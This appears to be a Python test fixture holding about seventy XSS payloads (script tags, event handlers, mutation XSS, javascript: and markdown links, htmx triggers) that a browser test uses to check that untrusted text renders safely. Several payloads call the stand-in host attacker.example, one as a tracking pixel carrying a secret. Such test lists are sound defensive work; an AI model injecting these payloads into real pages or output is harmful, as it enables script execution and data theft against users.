"""XSS payloads for untrusted text (model output, titles, names).

Each one, if it ever ran, would set ``window.__xss``, open a dialog, break out of its
element, or load something from another origin; the browser test watches for all four.
"""

from __future__ import annotations

EVIL = "https://attacker.example"

PAYLOADS: tuple[str, ...] = (
    # Plain HTML: script, event handlers, dangerous elements.
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>",
    '<img src=x onerror="window.__xss=1">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<svg onload="window.__xss=1">',
    "<svg><script>window.__xss=1</script></svg>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<iframe src="javascript:window.top.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<details open ontoggle="window.__xss=1">x</details>',
    '<input autofocus onfocus="window.__xss=1">',
    "<body onload=alert(1)>",
    '<video><source onerror="window.__xss=1"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://attacker.example/">',
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<style>@import 'https://attacker.example/x.css';body{background:url(https://attacker.example/b)}</style>",
    '<div style="background:url(https://attacker.example/bg.png)">styled</div>',
    '<a href="javascript:window.__xss=1">click me</a>',
    '<a href="&#x6a;avascript:alert(1)">entity scheme</a>',
    '<a href="http://x" onclick="window.__xss=1">handler on a link</a>',
    '<form action="https://attacker.example"><button>go</button></form>',
    "<x onclick=alert(1)>unknown tag</x>",
    "<template><script>alert(1)</script></template>",
    "<select><template shadowrootmode=open><img src=x onerror=alert(1)></template></select>",
    '<img srcset="https://attacker.example/a.png 1x">',
    # Mutation XSS: markup that changes meaning when parsed twice.
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x`onerror=alert(1)>',
    # Attribute, title and textarea break-outs (titles go into title="" and <title>).
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    # htmx attributes: markup that htmx would act on if it ever became elements.
    '<div hx-get="/endpoints/" hx-trigger="load" hx-target="body">htmx load</div>',
    '<div hx-on::load="window.__xss=1" hx-on:click="alert(1)">hx-on</div>',
    '<button data-hx-post="/accounts/logout/" data-hx-trigger="load">x</button>',
    '<div hx-ext="ws" ws-connect="wss://attacker.example/ws">ws</div>',
    # Markdown links and images.
    "[click](javascript:window.__xss=1)",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript://%0aalert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[ref][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![pixel](https://attacker.example/pixel.png?secret=1)",
    "![local](http://127.0.0.1:9/track.gif)",
    "[![img](https://attacker.example/b.png)](https://attacker.example/)",
    '<img src="https://attacker.example/a.png">',
    '![x" onerror="alert(1)](https://attacker.example/c.png)',
    # Entities and code that must stay text.
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```html\n<script>window.__xss=1</script>\n```",
    "{{ 7|add:7 }} {% now 'Y' %} ${alert(1)}",
)

assert len(PAYLOADS) >= 50 and len(set(PAYLOADS)) == len(PAYLOADS)
